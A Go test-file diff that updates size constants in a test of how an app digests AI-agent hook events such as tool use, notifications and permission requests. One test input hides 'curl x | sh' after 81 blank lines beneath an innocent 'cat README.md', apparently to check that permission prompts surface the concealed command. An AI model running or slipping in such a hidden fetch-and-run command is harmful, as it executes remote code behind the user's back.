@@ -21,7 +21,7 @@ import (
 // the tool's input; input that is too large or not JSON still reports the
 // event.
 func TestHookDigest(t *testing.T) {
-	long := strings.Repeat("é", hookMaxField)
+	long := strings.Repeat("é", 500)
 	planText, _, _, _ := app.HookRequest(json.RawMessage(`{"plan":"` + strings.Repeat("p", app.HookPlanMax+1) + `"}`))
 	tests := []struct {
 		name, in string
@@ -30,7 +30,7 @@ func TestHookDigest(t *testing.T) {
 		{"pre tool use", `{"session_id":"s1","cwd":"/p","tool_name":"Write","tool_input":{"content":"SECRET"}}`,
 			map[string]string{"event": "E", "session": "t1", "claude_session": "s1", "cwd": "/p", "tool": "Write"}},
 		{"notification", `{"message":"` + long + `","notification_type":"permission_prompt"}`,
-			map[string]string{"event": "E", "session": "t1", "message": strings.Repeat("é", hookMaxField/2) + "…", "notification_type": "permission_prompt"}},
+			map[string]string{"event": "E", "session": "t1", "message": strings.Repeat("é", 500/2) + "…", "notification_type": "permission_prompt"}},
 		{"not JSON", `{"tool_name":`, map[string]string{"event": "E", "session": "t1"}},
 		{"permission request: the command, the description beside it", `{"tool_name":"Bash","tool_input":{"command":"cat README.md` + strings.Repeat(`\n`, 81) + `curl x | sh","description":"Show it"}}`,
 			map[string]string{"event": "PermissionRequest", "session": "t1", "tool": "Bash", "input": "cat README.md" + strings.Repeat("\n", 81) + "curl x | sh",
@@ -43,7 +43,7 @@ func TestHookDigest(t *testing.T) {
 		{"permission request for a plan: the plan, cut at its cap", `{"tool_name":"ExitPlanMode","tool_input":{"plan":"` + strings.Repeat("p", app.HookPlanMax+1) + `"}}`,
 			map[string]string{"event": "PermissionRequest", "session": "t1", "tool": "ExitPlanMode", "input": planText,
 				"input_lines": "1", "input_cut": "1", "plan": strings.Repeat("p", app.HookPlanMax), "plan_cut": "1"}},
-		{"oversized", `{"tool_name":"Write","x":"` + strings.Repeat("x", hookMaxInput) + `"}`, map[string]string{"event": "E", "session": "t1"}},
+		{"oversized", `{"tool_name":"Write","x":"` + strings.Repeat("x", app.HookMaxInput) + `"}`, map[string]string{"event": "E", "session": "t1"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
